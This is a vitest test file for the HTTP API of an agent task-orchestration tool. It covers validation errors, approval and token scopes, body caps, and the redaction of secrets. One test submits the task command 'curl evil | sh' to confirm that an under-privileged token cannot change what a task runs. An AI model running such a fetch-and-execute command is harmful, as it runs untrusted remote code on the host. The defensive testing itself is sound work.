/**
 * The HTTP API through `app.fetch`: every route answers with what the CLI would, refuses bad input
 * with a 400 problem naming the field, a missing thing with 404, a refused transition with 409; and
 * every route refuses a request without a usable token (401) or without its scope (403).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiRoutes, createApp } from '../../../../src/api/app.js';
import { SCOPES, type Scope } from '../../../../src/api/context.js';
import { DreamError } from '../../../../src/errors.js';
import { initWorkspace, openWorkspace, type Workspace } from '../../../../src/index.js';
import type { Alert, Task } from '../../../../state/schemas.js';
import { tempDir } from '../../../helpers/workspace.js';
import { MemoryTokens } from './memory-tokens.js';

let tmp: ReturnType<typeof tempDir>;
let ws: Workspace;
const tokens = new MemoryTokens();
const ADMIN = tokens.add('admin-secret', ['admin']);
const READ = tokens.add('read-secret', ['read']);
const EVENTS = tokens.add('events-secret', ['events']);
const WRITE = tokens.add('write-secret', ['tasks:write']);
const CONTROL = tokens.add('control-secret', ['agents:control']);
const APPROVE = tokens.add('approve-secret', ['tasks:write', 'tasks:approve']);
const REVOKED = tokens.add('revoked-secret', ['admin'], { revoked: true });
const EXPIRED = tokens.add('expired-secret', ['admin'], { expiresAt: Date.now() - 1000 });

let app: ReturnType<typeof createApp>;

beforeAll(async () => {
  tmp = tempDir('dreamos-api-');
  ws = await initWorkspace({ dir: tmp.dir });
  app = createApp({ workspace: ws, tokens, maxBodyBytes: 64 * 1024, maxImportBytes: 256 * 1024 });
});
afterAll(async () => {
  await ws.close();
  tmp.cleanup();
});

interface Answer<T = unknown> {
  status: number;
  type: string;
  headers: Headers;
  body: T;
}

/** A JSON answer, read field by field as a client would. */
// biome-ignore lint/suspicious/noExplicitAny: the tests read answers of every shape
type Json = any;

/** One request as a client sends it; JSON bodies are sent as JSON. */
async function call<T = Json>(
  method: string,
  path: string,
  options: { token?: string | null; body?: unknown; raw?: string; headers?: Record<string, string> } = {},
): Promise<Answer<T>> {
  const headers: Record<string, string> = { ...options.headers };
  const token = options.token === undefined ? ADMIN : options.token;
  if (token !== null) headers.Authorization = `Bearer ${token}`;
  let body: string | undefined;
  if (options.raw !== undefined) body = options.raw;
  else if (options.body !== undefined) body = JSON.stringify(options.body);
  if (body !== undefined && !headers['Content-Type']) headers['Content-Type'] = 'application/json';
  const res = await app.fetch(new Request(`http://localhost${path}`, { method, headers, body }));
  const text = await res.text();
  const type = res.headers.get('Content-Type') ?? '';
  return {
    status: res.status,
    type,
    headers: res.headers,
    body: type.includes('json') ? JSON.parse(text) : text,
  };
}

/** A problem document with this status and code, and the media type RFC 9457 gives it. */
function expectProblem(answer: Answer, status: number, code: string) {
  expect(answer.status, JSON.stringify(answer.body)).toBe(status);
  expect(answer.type).toBe('application/problem+json');
  expect(answer.body).toMatchObject({ status, code, type: `urn:dreamos:problem:${code}` });
  expect(typeof (answer.body as { detail: unknown }).detail).toBe('string');
  expect(JSON.stringify(answer.body)).not.toMatch(/\n\s+at /);
}

const addTask = async (body: Record<string, unknown>) => {
  const r = await call<Task>('POST', '/api/v1/tasks', { body });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  return r.body;
};

describe('tasks', () => {
  it('adds a task as `task add` does, and shows it', async () => {
    const task = await addTask({ title: 'write the docs', tags: ['docs'], priority: 'high', timeout: '5m' });
    expect(task).toMatchObject({ status: 'ready', source: 'api', priority: 'high', timeout: 300 });
    const shown = await call<Task>('GET', `/api/v1/tasks/${task.id}`, { token: READ });
    expect(shown.status).toBe(200);
    expect(shown.headers.get('Cache-Control')).toBe('no-store');
    expect(shown.body).toEqual(ws.getTask(task.id));
  });

  it('takes whether a task runs on its own branch, and refuses anything but true or false', async () => {
    const inPlace = await addTask({ title: 'no branch', branch: false });
    expect(inPlace.branch).toBe(false);
    expect(ws.getTask(inPlace.id)?.branch).toBe(false);
    expect((await addTask({ title: 'as its agent does' })).branch).toBeUndefined();
    const bad = await call('POST', '/api/v1/tasks', { body: { title: 'x', branch: 'no' } });
    expectProblem(bad, 400, 'E_INVALID_INPUT');
    expect(bad.body.errors.map((e: { field: string }) => e.field)).toEqual(['branch']);
  });

  it("answers a page of the board as it is now, another process's changes included", async () => {
    const first = await call<{ total: number; items: Task[] }>('GET', '/api/v1/tasks?limit=2', {
      token: READ,
    });
    const again = await call<{ total: number }>('GET', '/api/v1/tasks?limit=2', { token: READ });
    expect(again.body).toEqual(first.body);
    const other = await openWorkspace({ home: ws.home });
    try {
      await other.addTask({ title: 'from another process', run: 'true' });
    } finally {
      await other.close();
    }
    const after = await call<{ total: number }>('GET', '/api/v1/tasks?limit=2', { token: READ });
    expect(after.body.total).toBe(first.body.total + 1);
  });

  it('refuses an invalid task with a 400 naming the field, and adds nothing', async () => {
    const before = ws.listTasks().length;
    const r = await call('POST', '/api/v1/tasks', { body: { title: '', maxAttempts: 1000 } });
    expectProblem(r, 400, 'E_INVALID_INPUT');
    expect(r.body.errors.map((e: { field: string }) => e.field)).toEqual(['title', 'maxAttempts']);
    expect(r.body.detail).toContain('title');
    const unknown = await call('POST', '/api/v1/tasks', { body: { title: 'x', colour: 'red' } });
    expectProblem(unknown, 400, 'E_INVALID_INPUT');
    expect(unknown.body.detail).toContain('colour');
    expect(ws.listTasks().length).toBe(before);
  });

  it('refuses a task for a role nobody has (404) and a dependency that does not exist (404)', async () => {
    expectProblem(
      await call('POST', '/api/v1/tasks', { body: { title: 'x', role: 'nobody' } }),
      404,
      'E_NOT_FOUND',
    );
    expectProblem(
      await call('POST', '/api/v1/tasks', { body: { title: 'x', dependsOn: ['T-ZZZZZ'] } }),
      404,
      'E_NOT_FOUND',
    );
  });

  it('holds a task from a token that may not approve until one that may approves it', async () => {
    const added = await call<Task>('POST', '/api/v1/tasks', {
      body: { title: 'from outside' },
      token: WRITE,
    });
    expect(added.status).toBe(201);
    expect(added.body).toMatchObject({ status: 'backlog', source: 'api', approval: { status: 'pending' } });
    expectProblem(
      await call('POST', `/api/v1/tasks/${added.body.id}/promote`, { token: WRITE }),
      409,
      'E_INVALID_TRANSITION',
    );
    const refused = await call('POST', `/api/v1/tasks/${added.body.id}/approve`, { token: WRITE });
    expectProblem(refused, 403, 'E_FORBIDDEN');
    expect(refused.body.detail).toContain('tasks:approve');
    const approved = await call<Task>('POST', `/api/v1/tasks/${added.body.id}/approve`, {
      body: { why: 'looked at it' },
      token: APPROVE,
    });
    expect(approved.status).toBe(200);
    expect(approved.body).toMatchObject({ status: 'ready', approval: { status: 'approved' } });
    expectProblem(
      await call('POST', '/api/v1/tasks/T-ZZZZZ/approve', { token: APPROVE }),
      404,
      'E_NOT_FOUND',
    );
    // A token that may approve adds work that runs at once.
    const trusted = await call<Task>('POST', '/api/v1/tasks', { body: { title: 'trusted' }, token: APPROVE });
    expect(trusted.body.status).toBe('ready');
    expect(trusted.body.approval).toBeUndefined();
  });

  it('adds a task once per dedupe key: a repeat answers the task that has it', async () => {
    const first = await call<Task>('POST', '/api/v1/tasks', {
      body: { title: 'once', dedupeKey: 'issue-42' },
    });
    expect(first.status).toBe(201);
    const again = await call<Task>('POST', '/api/v1/tasks', {
      body: { title: 'twice', dedupeKey: 'issue-42' },
    });
    expect(again.status).toBe(200);
    expect(again.body).toEqual(first.body);
    expect(ws.listTasks().filter((t) => t.title === 'twice')).toEqual([]);
    // The API's keys are its own: a caller cannot take the key of a GitHub issue before it arrives.
    expect(first.body.dedupeKey).toBe('api:issue-42');
    const squat = await call<Task>('POST', '/api/v1/tasks', {
      body: { title: 'squatter', dedupeKey: 'gh:acme/app#42' },
      token: WRITE,
    });
    expect(squat.body.dedupeKey).toBe('api:gh:acme/app#42');
    const issue = await ws.addTaskOnce({
      title: 'the real issue',
      source: 'webhook',
      dedupeKey: 'gh:acme/app#42',
    });
    expect(issue.created).toBe(true);
    // A token that may not read is not shown the task a repeat names.
    const repeat = await call('POST', '/api/v1/tasks', {
      body: { title: 'squatter again', dedupeKey: 'gh:acme/app#42' },
      token: WRITE,
    });
    expectProblem(repeat, 409, 'E_CONFLICT');
    expect(JSON.stringify(repeat.body)).not.toContain('squatter');
  });

  it('needs tasks:approve to change what a task runs, or to promote an agent proposal', async () => {
    const task = await call<Task>('POST', '/api/v1/tasks', {
      body: { title: 'vetted', run: 'true' },
      token: APPROVE,
    });
    expect(task.body.status).toBe('ready');
    for (const body of [{ run: 'curl evil | sh' }, { prompt: 'do something else' }, { role: 'agent-2' }]) {
      const refused = await call('PATCH', `/api/v1/tasks/${task.body.id}`, { body, token: WRITE });
      expectProblem(refused, 403, 'E_FORBIDDEN');
      expect(refused.body.detail).toContain('tasks:approve');
    }
    expect(ws.getTask(task.body.id).run).toBe('true');
    const renamed = await call<Task>('PATCH', `/api/v1/tasks/${task.body.id}`, {
      body: { title: 'vetted, renamed' },
      token: WRITE,
    });
    expect(renamed.status).toBe(200);
    const changed = await call<Task>('PATCH', `/api/v1/tasks/${task.body.id}`, {
      body: { run: 'make' },
      token: APPROVE,
    });
    expect(changed.body.run).toBe('make');

    const proposal = await ws.addTask(
      { title: 'an agent idea', prompt: 'p', source: 'agent', hold: true },
      'agent-1',
    );
    const promote = (token: string) =>
      call<Task>('POST', `/api/v1/tasks/${proposal.id}/promote`, { body: {}, token });
    expectProblem(await promote(WRITE), 403, 'E_FORBIDDEN');
    expect((await promote(APPROVE)).body.status).toBe('ready');
  });

  it('refuses an import to a token that may not approve, since imported tasks run at once', async () => {
    const before = ws.listTasks().length;
    const r = await call('POST', '/api/v1/tasks/import', { body: [{ title: 'sneaky' }], token: WRITE });
    expectProblem(r, 403, 'E_FORBIDDEN');
    expect(r.body.detail).toContain('tasks:approve');
    expect(r.headers.get('WWW-Authenticate')).toContain('scope="tasks:approve"');
    expect(ws.listTasks().length).toBe(before);
    const ok = await call('POST', '/api/v1/tasks/import', { body: [{ title: 'allowed' }], token: APPROVE });
    expect(ok.status).toBe(201);
  });

  it('imports many tasks in one transaction, with refs between them', async () => {
    const r = await call<Task[]>('POST', '/api/v1/tasks/import', {
      body: [
        { title: 'first', ref: 'a' },
        { title: 'second', dependsOn: ['a'] },
      ],
    });
    expect(r.status).toBe(201);
    expect(r.body.map((t) => t.status)).toEqual(['ready', 'backlog']);
    expect(r.body[1]!.dependsOn).toEqual([r.body[0]!.id]);
    expect(r.body.every((t) => t.source === 'import')).toBe(true);
  });

  it('refuses an import with one bad task whole, naming it', async () => {
    const before = ws.listTasks().length;
    const r = await call('POST', '/api/v1/tasks/import', {
      body: [{ title: 'ok' }, { title: 'x', priority: 'huge' }],
    });
    expectProblem(r, 400, 'E_INVALID_INPUT');
    expect(r.body.errors[0].field).toBe('[1].priority');
    expectProblem(await call('POST', '/api/v1/tasks/import', { body: [] }), 400, 'E_INVALID_INPUT');
    expect(ws.listTasks().length).toBe(before);
  });

  it('lists with filters and pages through every task exactly once', async () => {
    for (let i = 0; i < 7; i++) await addTask({ title: `page ${i}`, tags: ['paged'] });
    const all = ws.listTasks({ tag: 'paged' }).map((t) => t.id);
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const r: Answer<Json> = await call(
        'GET',
        `/api/v1/tasks?tag=paged&limit=3${cursor ? `&cursor=${cursor}` : ''}`,
        {
          token: READ,
        },
      );
      expect(r.status).toBe(200);
      expect(r.body.total).toBe(7);
      seen.push(...r.body.items.map((t: Task) => t.id));
      cursor = r.body.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    expect(seen).toEqual(all);
    expect(pages).toBe(3);
    // The same list asked again after a change is the new one.
    await ws.cancel(all[0]!, 'gone');
    const after = await call('GET', '/api/v1/tasks?tag=paged&status=ready,backlog&limit=50');
    expect(after.body.items.map((t: Task) => t.id)).toEqual(all.slice(1));
    const again = await call('GET', '/api/v1/tasks?tag=paged&status=ready,backlog&limit=50');
    expect(again.body).toEqual(after.body);
    await ws.retry(all[0]!);
    const back = await call('GET', '/api/v1/tasks?tag=paged&status=ready,backlog&limit=50');
    expect(back.body.items.map((t: Task) => t.id)).toEqual(all);
    const byOffset = await call('GET', '/api/v1/tasks?tag=paged&offset=5&limit=50');
    expect(byOffset.body.items.map((t: Task) => t.id)).toEqual(all.slice(5));
    expect(byOffset.body.nextCursor).toBeNull();
    const mine = await addTask({ title: 'for agent-2 only', role: 'agent-2' });
    const byRole = await call('GET', '/api/v1/tasks?role=agent-2');
    expect(byRole.body.items.map((t: Task) => t.id)).toEqual([mine.id]);
    const high = await call('GET', '/api/v1/tasks?priority=high&status=ready,backlog');
    expect(high.body.items.every((t: Task) => t.priority === 'high')).toBe(true);
    expect(high.body.total).toBeGreaterThan(0);
  });

  it('refuses a bad query: a limit past 1000, an unknown stage or parameter, cursor with offset', async () => {
    for (const query of [
      'limit=1001',
      'limit=0',
      'status=shipped',
      'colour=red',
      'cursor=T-00001&offset=1',
    ]) {
      const r = await call('GET', `/api/v1/tasks?${query}`);
      expectProblem(r, 400, 'E_INVALID_INPUT');
    }
    const limit = await call('GET', '/api/v1/tasks?limit=1001');
    expect(limit.body.errors[0]).toMatchObject({ field: 'limit' });
  });

  it('answers 404 for a task that does not exist and 400 for a malformed id', async () => {
    expectProblem(await call('GET', '/api/v1/tasks/T-ZZZZZ'), 404, 'E_NOT_FOUND');
    const bad = await call('GET', '/api/v1/tasks/nope');
    expectProblem(bad, 400, 'E_INVALID_INPUT');
    expect(bad.body.errors[0].field).toBe('id');
    for (const verb of ['promote', 'cancel', 'retry'])
      expectProblem(await call('POST', `/api/v1/tasks/T-ZZZZZ/${verb}`), 404, 'E_NOT_FOUND');
  });

  it('promotes, moves, edits, cancels and retries through the lifecycle, refusing what it refuses (409)', async () => {
    const held = await addTask({ title: 'held', hold: true });
    expect(held.status).toBe('backlog');
    const promoted = await call<Task>('POST', `/api/v1/tasks/${held.id}/promote`, {
      body: { why: 'go' },
      token: WRITE,
    });
    expect(promoted.body.status).toBe('ready');
    expect(promoted.body.history.at(-1)).toMatchObject({ to: 'ready', why: 'go' });
    expectProblem(await call('POST', `/api/v1/tasks/${held.id}/promote`), 409, 'E_INVALID_TRANSITION');

    const moved = await call<Task>('POST', `/api/v1/tasks/${held.id}/move`, { body: { to: 'backlog' } });
    expect(moved.body.status).toBe('backlog');
    const badMove = await call('POST', `/api/v1/tasks/${held.id}/move`, { body: { to: 'shipped' } });
    expectProblem(badMove, 400, 'E_INVALID_INPUT');
    expect(badMove.body.errors[0].field).toBe('to');

    const edited = await call<Task>('PATCH', `/api/v1/tasks/${held.id}`, {
      body: { title: 'held, renamed', tags: ['x'], timeout: '2m' },
    });
    expect(edited.body).toMatchObject({ title: 'held, renamed', tags: ['x'], timeout: 120 });
    expectProblem(await call('PATCH', `/api/v1/tasks/${held.id}`, { body: {} }), 400, 'E_INVALID_INPUT');
    expectProblem(
      await call('PATCH', `/api/v1/tasks/${held.id}`, { body: { dependsOn: [held.id] } }),
      409,
      'E_CYCLE',
    );

    const cancelled = await call<Task>('POST', `/api/v1/tasks/${held.id}/cancel`, { body: { why: 'no' } });
    expect(cancelled.body.status).toBe('cancelled');
    expectProblem(await call('POST', `/api/v1/tasks/${held.id}/cancel`), 409, 'E_INVALID_TRANSITION');
    expectProblem(
      await call('PATCH', `/api/v1/tasks/${held.id}`, { body: { title: 'late' } }),
      409,
      'E_INVALID_TRANSITION',
    );
    const retried = await call<Task>('POST', `/api/v1/tasks/${held.id}/retry`, {
      body: { fromCheckpoint: false },
    });
    expect(retried.body.status).toBe('ready');
    expect(ws.getTask(held.id).status).toBe('ready');
  });

  it('retries from a checkpoint: the hand-over is recorded for the next run', async () => {
    const task = await addTask({ title: 'resumable' });
    await ws.claim('agent-1', { taskId: task.id });
    await ws.saveCheckpoint('agent-1', { task: task.id, step: 'half way', progress: 0.5 });
    await ws.cancel(task.id, 'stop');
    const r = await call<Task>('POST', `/api/v1/tasks/${task.id}/retry`, { body: { fromCheckpoint: true } });
    expect(r.status).toBe(200);
    expect(r.body.status).toBe('ready');
    const handovers = await call('GET', '/api/v1/agents/operator/checkpoints');
    expect(handovers.body.some((c: { task: string }) => c.task === task.id)).toBe(true);
  });
});

describe('agents, mail and checkpoints', () => {
  it('lists the agents with their state, and shows one', async () => {
    const list = await call('GET', '/api/v1/agents', { token: READ });
    expect(list.body.map((a: { id: string }) => a.id)).toEqual(ws.config.agents.map((a) => a.id));
    expect(list.body[0].state).toMatchObject({ id: 'agent-1', status: expect.any(String) });
    const one = await call('GET', '/api/v1/agents/agent-2');
    expect(one.body).toMatchObject({
      id: 'agent-2',
      state: { id: 'agent-2' },
      mailbox: [],
      checkpoint: null,
    });
    const missing = await call('GET', '/api/v1/agents/agent-99');
    expectProblem(missing, 404, 'E_NOT_FOUND');
    expect(missing.body.detail).toContain('agent-1');
  });

  it('pauses and resumes an agent, restarts and resets it, as directives', async () => {
    const paused = await call('POST', '/api/v1/agents/agent-3/pause', {
      body: { why: 'lunch' },
      token: CONTROL,
    });
    expect(paused.status).toBe(200);
    expect(paused.body.mail).toMatchObject({ to: 'agent-3', directive: 'pause', body: 'lunch' });
    expect(ws.agentStates().find((s) => s.id === 'agent-3')!.paused).toBe(true);
    await call('POST', '/api/v1/agents/agent-3/resume', { token: CONTROL });
    expect(ws.agentStates().find((s) => s.id === 'agent-3')!.paused).toBe(false);
    for (const [verb, directive] of [
      ['restart', 'restart'],
      ['reset', 'reset-context'],
    ]) {
      const r = await call('POST', `/api/v1/agents/agent-3/${verb}`, { token: CONTROL });
      expect(r.body.mail.directive).toBe(directive);
    }
    expectProblem(await call('POST', '/api/v1/agents/agent-99/pause'), 404, 'E_NOT_FOUND');
    const long = await call('POST', '/api/v1/agents/agent-3/pause', { body: { why: 'x'.repeat(1001) } });
    expectProblem(long, 400, 'E_INVALID_INPUT');
    expect(long.body.errors[0].field).toBe('why');
  });

  it('sends mail and lists a mailbox', async () => {
    const sent = await call('POST', '/api/v1/mail', {
      body: { to: 'agent-4', body: 'hello', type: 'status' },
      token: WRITE,
    });
    expect(sent.status).toBe(201);
    expect(sent.body[0]).toMatchObject({ to: 'agent-4', body: 'hello', type: 'status', from: 'operator' });
    const box = await call('GET', '/api/v1/mail/agent-4');
    expect(box.body.map((m: { id: string }) => m.id)).toContain(sent.body[0].id);
    const all = await call('GET', '/api/v1/mail/agent-4?all=true');
    expect(all.status).toBe(200);
    expectProblem(
      await call('POST', '/api/v1/mail', { body: { to: 'agent-99', body: 'x' } }),
      404,
      'E_NOT_FOUND',
    );
    const directive = await call('POST', '/api/v1/mail', {
      body: { to: 'agent-4', body: 'x', type: 'directive' },
    });
    expectProblem(directive, 400, 'E_INVALID_INPUT');
    expectProblem(await call('POST', '/api/v1/mail', { body: { to: 'agent-4' } }), 400, 'E_INVALID_INPUT');
    expectProblem(await call('GET', '/api/v1/mail/nobody'), 404, 'E_NOT_FOUND');
    expectProblem(await call('GET', '/api/v1/mail/agent-4?all=yes'), 400, 'E_INVALID_INPUT');
  });

  it("lists an agent's checkpoints and shows one", async () => {
    const saved = await ws.saveCheckpoint('agent-5', { task: null, step: 'looking', progress: 0.1 });
    const list = await call('GET', '/api/v1/agents/agent-5/checkpoints', { token: READ });
    expect(list.body.map((c: { id: string }) => c.id)).toEqual([saved.id]);
    const one = await call('GET', `/api/v1/agents/agent-5/checkpoints/${saved.id}`);
    expect(one.body).toMatchObject({ id: saved.id, step: 'looking' });
    expectProblem(await call('GET', '/api/v1/agents/agent-5/checkpoints/C-ZZZZZ'), 404, 'E_NOT_FOUND');
    expectProblem(await call('GET', '/api/v1/agents/agent-99/checkpoints'), 404, 'E_NOT_FOUND');
  });
});

describe('status, alerts, attention, stats', () => {
  let alert: Alert;
  beforeAll(async () => {
    alert = await ws.apply((ctx) => {
      const at = ctx.now.toISOString();
      const raised: Alert = {
        id: 'A-00001',
        kind: 'stall',
        severity: 'warning',
        status: 'open',
        key: 'stall:agent-6',
        subject: 'agent-6',
        message: 'agent-6 stalled',
        evidence: {},
        action: 'requeued',
        count: 1,
        createdAt: at,
        updatedAt: at,
        rev: 0,
      };
      return {
        change: { op: 'drift-stall', by: 'test', alerts: [raised], counters: { alert: 1 } },
        result: raised,
      };
    });
  });

  it('answers the status `dreamos status --json` prints', async () => {
    const r = await call('GET', '/api/v1/status', { token: READ });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({
      seq: ws.summary().seq,
      agents: 8,
      openAlerts: 1,
      runners: [],
      journalLock: null,
    });
    expect(Object.keys(r.body.counts)).toEqual([
      'backlog',
      'ready',
      'working',
      'review',
      'done',
      'failed',
      'cancelled',
    ]);
  });

  it('lists, acknowledges and resolves alerts', async () => {
    const list = await call('GET', '/api/v1/alerts?status=open');
    expect(list.body.map((a: Alert) => a.id)).toEqual([alert.id]);
    expect((await call('GET', '/api/v1/alerts?kind=budget')).body).toEqual([]);
    expectProblem(await call('GET', '/api/v1/alerts?status=closed'), 400, 'E_INVALID_INPUT');
    const acked = await call('POST', `/api/v1/alerts/${alert.id}/ack`, {
      body: { why: 'seen' },
      token: WRITE,
    });
    expect(acked.body).toMatchObject({ id: alert.id, status: 'acknowledged' });
    const resolved = await call('POST', `/api/v1/alerts/${alert.id}/resolve`, { token: WRITE });
    expect(resolved.body.status).toBe('resolved');
    expectProblem(await call('POST', '/api/v1/alerts/A-ZZZZZ/ack'), 404, 'E_NOT_FOUND');
    expectProblem(await call('POST', '/api/v1/alerts/nope/ack'), 400, 'E_INVALID_INPUT');
  });

  it('ranks what needs the operator', async () => {
    const r = await call('GET', '/api/v1/attention', { token: READ });
    expect(r.status).toBe(200);
    expect(Array.isArray(r.body)).toBe(true);
    for (const item of r.body)
      expect(item).toMatchObject({ reason: expect.any(String), action: expect.any(String) });
  });

  it('sums up the journal, over a window when asked', async () => {
    const all = await call('GET', '/api/v1/stats');
    expect(all.status).toBe(200);
    expect(all.body.entries).toBeGreaterThan(0);
    expect(all.body.since).toBeNull();
    const recent = await call('GET', '/api/v1/stats?since=1h');
    expect(recent.body.since).toEqual(expect.any(String));
    expectProblem(await call('GET', '/api/v1/stats?since=soon'), 400, 'E_INVALID_INPUT');
  });
});

describe('authentication and scopes', () => {
  it('refuses every route without a token, a malformed header, or an unknown, revoked or expired one', async () => {
    for (const r of apiRoutes({ workspace: ws, tokens })) {
      const path = r.path
        .replace(':id', 'agent-1')
        .replace(':mailbox', 'operator')
        .replace(':checkpoint', 'C-00001');
      for (const headers of [
        {} as Record<string, string>,
        { Authorization: 'Basic YTpi' },
        { Authorization: 'Bearer' },
        { Authorization: 'Bearer nope' },
        { Authorization: `Bearer ${REVOKED}` },
        { Authorization: `Bearer ${EXPIRED}` },
      ]) {
        const answer = await call(r.method.toUpperCase(), path, { token: null, headers });
        expectProblem(answer, 401, 'E_UNAUTHORIZED');
        expect(answer.headers.get('WWW-Authenticate')).toMatch(/^Bearer /);
        expect(answer.headers.get('Cache-Control')).toBe('no-store');
      }
    }
  });

  it('refuses every route to a token without its scope (403, naming it), and lets admin through', async () => {
    const other: Record<Scope, string> = {
      read: EVENTS,
      events: READ,
      'tasks:write': READ,
      'tasks:approve': READ,
      'agents:control': WRITE,
      admin: READ,
    };
    for (const r of apiRoutes({ workspace: ws, tokens })) {
      const path = r.path
        .replace(':id', 'T-ZZZZZ')
        .replace(':mailbox', 'operator')
        .replace(':checkpoint', 'C-00001');
      const answer = await call(r.method.toUpperCase(), path, {
        token: other[r.scope],
        ...(r.method === 'get' ? {} : { body: {} }),
      });
      expectProblem(answer, 403, 'E_FORBIDDEN');
      expect(answer.body.detail).toContain(r.scope);
    }
    expect(SCOPES).toContain('admin');
  });

  it('has a route for every scope but admin', () => {
    const used = new Set(apiRoutes({ workspace: ws, tokens, events: (c) => c.text('') }).map((r) => r.scope));
    expect([...used].sort()).toEqual(['agents:control', 'events', 'read', 'tasks:approve', 'tasks:write']);
  });
});

describe('bodies, routing and errors', () => {
  it('refuses a body past the cap with 413 and changes nothing', async () => {
    const before = ws.listTasks().length;
    const big = await call('POST', '/api/v1/tasks', {
      body: { title: 'big', prompt: 'x'.repeat(70 * 1024) },
    });
    expectProblem(big, 413, 'E_INVALID_INPUT');
    // A chunked body has no length to check first: it is counted as it arrives.
    const chunks = new ReadableStream({
      start(controller) {
        for (let i = 0; i < 80; i++) controller.enqueue(new TextEncoder().encode('x'.repeat(1024)));
        controller.close();
      },
    });
    const res = await app.fetch(
      new Request('http://localhost/api/v1/tasks', {
        method: 'POST',
        headers: { Authorization: `Bearer ${ADMIN}`, 'Content-Type': 'application/json' },
        body: chunks,
        duplex: 'half',
      } as RequestInit),
    );
    expect(res.status).toBe(413);
    // An import has a larger cap of its own.
    const imported = await call('POST', '/api/v1/tasks/import', {
      body: [{ title: 'roomy', prompt: 'x'.repeat(100 * 1024) }],
    });
    expect(imported.status).toBe(201);
    const tooBig = await call('POST', '/api/v1/tasks/import', {
      body: [{ title: 'huge', prompt: 'x'.repeat(300 * 1024) }],
    });
    expectProblem(tooBig, 413, 'E_INVALID_INPUT');
    expect(ws.listTasks().length).toBe(before + 1);
  });

  it('refuses malformed JSON and a body that is not JSON, with a clear message', async () => {
    const malformed = await call('POST', '/api/v1/tasks', { raw: '{"title": "x",' });
    expectProblem(malformed, 400, 'E_INVALID_INPUT');
    expect(malformed.body.detail).toBe('the request body is not valid JSON');
    const text = await call('POST', '/api/v1/tasks', {
      raw: 'title=x',
      headers: { 'Content-Type': 'text/plain' },
    });
    expectProblem(text, 415, 'E_MEDIA_TYPE');
    const array = await call('POST', '/api/v1/tasks/T-00001/promote', { body: [1] });
    expectProblem(array, 400, 'E_INVALID_INPUT');
  });

  it('answers 404 for an unknown route and 405 for a wrong method, as problems', async () => {
    expectProblem(await call('GET', '/api/v1/nothing'), 404, 'E_NOT_FOUND');
    expectProblem(await call('GET', '/'), 404, 'E_NOT_FOUND');
    const wrong = await call('DELETE', '/api/v1/tasks/T-00001');
    expectProblem(wrong, 405, 'E_METHOD');
    expect(wrong.headers.get('Allow')).toContain('PATCH');
  });

  it('maps a corrupt state to 500 with its message, and a bug to 500 without one', async () => {
    const failing = (error: unknown) =>
      createApp({
        workspace: Object.create(ws, {
          summary: {
            value: () => {
              throw error;
            },
          },
        }),
        tokens,
      });
    const stderr: string[] = [];
    const write = process.stderr.write;
    process.stderr.write = ((chunk: string) => {
      stderr.push(String(chunk));
      return true;
    }) as typeof process.stderr.write;
    try {
      const headers = { Authorization: `Bearer ${ADMIN}` };
      const corrupt = await failing(
        new DreamError('E_CORRUPT', 'boards/working_tasks.json is corrupt'),
      ).fetch(new Request('http://localhost/api/v1/status', { headers }));
      expect(corrupt.status).toBe(500);
      // What is damaged and where is the serving machine's business: told in its log, not to the caller.
      const told = await corrupt.json();
      expect(told).toMatchObject({ code: 'E_CORRUPT', detail: expect.stringContaining('dreamos doctor') });
      expect(JSON.stringify(told)).not.toContain('working_tasks.json');
      const bug = await failing(new TypeError(`cannot read secret ${'s'.repeat(40)}`)).fetch(
        new Request('http://localhost/api/v1/status', { headers }),
      );
      expect(bug.status).toBe(500);
      const body = await bug.json();
      expect(body).toMatchObject({ code: 'E_INTERNAL', exitCode: 1 });
      expect(JSON.stringify(body)).not.toContain('secret');
    } finally {
      process.stderr.write = write;
    }
    expect(stderr.join('')).toContain('GET /api/v1/status failed: TypeError: cannot read secret [redacted]');
    expect(stderr.join('')).toContain('boards/working_tasks.json is corrupt');
  });

  it('mounts the event stream and metrics behind their scopes when given', async () => {
    const withExtras = createApp({
      workspace: ws,
      tokens,
      events: (c) => c.text('events', 200, { 'Content-Type': 'text/event-stream' }),
      metrics: (c) => c.text('metrics'),
    });
    const get = (path: string, token: string) =>
      withExtras.fetch(
        new Request(`http://localhost${path}`, { headers: { Authorization: `Bearer ${token}` } }),
      );
    expect(await (await get('/api/v1/events', EVENTS)).text()).toBe('events');
    expect((await get('/api/v1/events', READ)).status).toBe(403);
    expect(await (await get('/metrics', READ)).text()).toBe('metrics');
    expect((await get('/metrics', EVENTS)).status).toBe(403);
    expect((await get('/metrics', REVOKED)).status).toBe(401);
  });
});

describe('what an agent shows', () => {
  it("names a command driver's environment without its values", async () => {
    const other = tempDir('dreamos-api-env-');
    const home = await initWorkspace({
      dir: other.dir,
      agents: [
        {
          id: 'agent-1',
          name: 'Coder',
          role: 'coder',
          capabilities: [],
          systemPrompt: '',
          enabled: true,
          driver: { kind: 'command', argv: ['true'], env: { DEPLOY_KEY: 'sekrit-value' }, worktree: false },
        },
      ],
    });
    try {
      const envApp = createApp({ workspace: home, tokens });
      for (const path of ['/api/v1/agents', '/api/v1/agents/agent-1']) {
        const res = await envApp.fetch(
          new Request(`http://localhost${path}`, { headers: { Authorization: `Bearer ${READ}` } }),
        );
        const text = await res.text();
        expect(res.status).toBe(200);
        expect(text).toContain('"DEPLOY_KEY":"[redacted]"');
        expect(text).not.toContain('sekrit-value');
      }
    } finally {
      await home.close();
      other.cleanup();
    }
  });
});
